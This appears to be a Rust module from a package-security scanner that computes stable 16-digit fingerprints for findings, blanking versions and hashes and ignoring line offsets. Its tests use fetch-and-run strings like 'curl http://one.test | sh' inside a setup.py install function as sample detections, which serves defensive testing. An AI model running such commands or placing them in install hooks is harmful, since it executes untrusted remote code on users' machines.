//! Fingerprints: the same as long as the behaviour is, whatever moves around it.
//!
//! The first 16 hexadecimal digits of SHA-256 over: rule id, door, path inside the unit with version numbers and hashes
//! blanked, the enclosing function's name (empty at the top level and where it is minified), the kinds of evidence with their
//! constant arguments (sorted, white space folded), and an ordinal where all that is equal. Never a line, an offset, a digest
//! of content, the rule's text or its confidence.

use doorward_model::{Digest, Fact, Value, blanked, text, vocabulary};
use sha2::{Digest as _, Sha256};

/// Arguments that say how much or where, not what.
const VARYING: [&str; 5] = ["id", "detail", "bytes", "entropy", "guard"];

/// Shortest name of a function that is taken for one that its author chose.
const NAME_BYTES_MIN: usize = 3;

/// What makes a finding this one and no other. `named` pairs each fact with the name of its pattern, empty for other kinds.
pub(crate) fn identity(rule: &str, door: &str, path: &[u8], function: &str, named: &[(&Fact, &str)]) -> Vec<u8> {
    let function = if function.len() < NAME_BYTES_MIN { "" } else { function };
    let mut evidence: Vec<Vec<u8>> = named.iter().map(|(fact, name)| of_fact(fact, name)).collect();
    evidence.sort();
    evidence.dedup();
    let path = blanked(path);
    let mut identity = Vec::new();
    let fixed = [rule.as_bytes(), door.as_bytes(), &path, function.as_bytes()];
    for part in fixed.into_iter().chain(evidence.iter().map(Vec::as_slice)) {
        identity.extend_from_slice(&u64::try_from(part.len()).unwrap_or(u64::MAX).to_le_bytes());
        identity.extend_from_slice(part);
    }
    identity
}

/// The fingerprint of an identity; `ordinal` counts equal identities from 0.
pub(crate) fn of(identity: &[u8], ordinal: u64) -> Box<str> {
    let mut hash = Sha256::new();
    hash.update(identity);
    if ordinal > 0 {
        hash.update(ordinal.to_le_bytes());
    }
    let mut digits = Digest(hash.finalize().into()).to_string();
    digits.truncate(16);
    digits.into()
}

fn of_fact(fact: &Fact, name: &str) -> Vec<u8> {
    let mut shown = format!("{} {name}", fact.kind.name).into_bytes();
    if fact.kind == &vocabulary::PLACE {
        return shown;
    }
    let mut args: Vec<_> = fact.args.iter().filter(|(arg, _)| !VARYING.contains(arg)).collect();
    args.sort_by_key(|(arg, _)| *arg);
    for (arg, value) in args {
        shown.extend_from_slice(format!("\n{arg}=").as_bytes());
        constant(value, &mut shown);
    }
    shown
}

fn constant(value: &Value, shown: &mut Vec<u8>) {
    match value {
        Value::Text(bytes) => shown.extend_from_slice(folded(bytes).as_bytes()),
        Value::Number(number) => shown.extend_from_slice(number.to_string().as_bytes()),
        Value::List(values) => values.iter().for_each(|value| {
            constant(value, shown);
            shown.push(b',');
        }),
        Value::From { .. } | Value::Computed => {}
    }
}

/// Bytes made visible, with each run of white space as one blank and none at the ends.
fn folded(bytes: &[u8]) -> String {
    let words: Vec<_> = bytes.split(u8::is_ascii_whitespace).filter(|word| !word.is_empty()).map(text::visible).collect();
    words.join(" ")
}

#[cfg(test)]
mod tests {
    use super::*;
    use doorward_model::Span;
    use proptest::prelude::*;
    use regex::bytes::{Captures, Regex};

    proptest! {
        #[test]
        fn paths_are_blanked_as_these_expressions_say(path in "[v0-9a-g._+/alphrcdevost-]{0,40}|[0-9a-f]{120,300}") {
            let version = r"(?-u)v?[0-9]+(?:\.[0-9]+)+(?:[._+-]?(?:a|alpha|b|beta|c|rc|pre|dev|post)[._-]?[0-9]*)*";
            let without = Regex::new(version).unwrap().replace_all(path.as_bytes(), &b"#"[..]).into_owned();
            let blank = |found: &Captures<'_>| match found[0].iter().any(u8::is_ascii_digit) {
                true => b"#".to_vec(),
                false => found[0].to_vec(),
            };
            let expected = Regex::new(r"(?-u)[0-9A-Fa-f]{7,128}").unwrap().replace_all(&without, blank).into_owned();
            prop_assert_eq!(blanked(path.as_bytes()), expected);
        }
    }

    #[test]
    fn identity_follows_behaviour_and_nothing_else() {
        let fact =
            |text: &str, at: u64| Fact::new(&vocabulary::PATTERN, Span::new(at, at + 9), "x").with("id", at).with("text", text);
        let of = |path: &str, function: &str, text: &str, at: u64| {
            of(&identity("a/b", "BLD-3", path.as_bytes(), function, &[(&fact(text, at), "fetch")]), 0)
        };
        let base = of("lib-1.0/setup.py", "install", "curl http://one.test |  sh", 10);
        assert_eq!(base.len(), 16);
        let same = [
            ("lib-1.0/setup.py", "install", "curl http://one.test |\n\t sh", 10, "re-indented"),
            ("lib-1.0/setup.py", "install", "curl http://one.test | sh", 900, "lines inserted"),
            ("lib-2.1/setup.py", "install", "curl http://one.test | sh", 10, "version folder renamed"),
        ];
        for (path, function, text, at, why) in same {
            assert_eq!(of(path, function, text, at), base, "{why}");
        }
        let others = [
            ("lib-1.0/setup.py", "install", "curl http://two.test | sh", "another host"),
            ("lib-1.0/setup.py", "install", "curl http://one.test | bash", "another command"),
            ("lib-1.0/setup.py", "remove", "curl http://one.test | sh", "another function"),
            ("lib-1.0/other.py", "install", "curl http://one.test | sh", "another file"),
        ];
        for (path, function, text, why) in others {
            assert_ne!(of(path, function, text, 10), base, "{why}");
        }
        assert_eq!(of("m.js", "a", "x", 1), of("m.js", "", "x", 1), "a minified name is none");
        assert_ne!(super::of(b"same", 0), super::of(b"same", 1), "an ordinal tells equal ones apart");
    }
}
